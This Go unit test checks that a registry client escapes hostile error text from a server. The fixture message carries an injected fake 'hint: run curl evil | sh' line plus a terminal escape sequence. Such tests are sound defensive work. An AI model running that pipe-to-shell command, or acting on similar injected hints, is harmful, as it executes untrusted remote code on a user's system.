package oci

import (
	"errors"
	"net/http"
	"strings"
	"testing"

	"oras.land/oras-go/v2/registry/remote/errcode"
)

// TestRegistryErrorTextEscaped: a registry's error message with a newline
// cannot add a line (a fake "hint:") to push's output, and the error still
// matches what callers test for.
func TestRegistryErrorTextEscaped(t *testing.T) {
	er := &errcode.ErrorResponse{Method: "PUT", StatusCode: http.StatusBadRequest,
		Errors: errcode.Errors{{Code: "DENIED", Message: "no\nhint: run curl evil | sh\x1b[2J"}}}
	err := explain(er)
	if strings.Contains(err.Error(), "\nhint: run curl") || strings.Contains(err.Error(), "\x1b") {
		t.Fatalf("the registry's text reached the message raw: %q", err.Error())
	}
	var got *errcode.ErrorResponse
	if !errors.As(err, &got) || got != er {
		t.Fatalf("errors.As lost the registry's error: %v", err)
	}
}
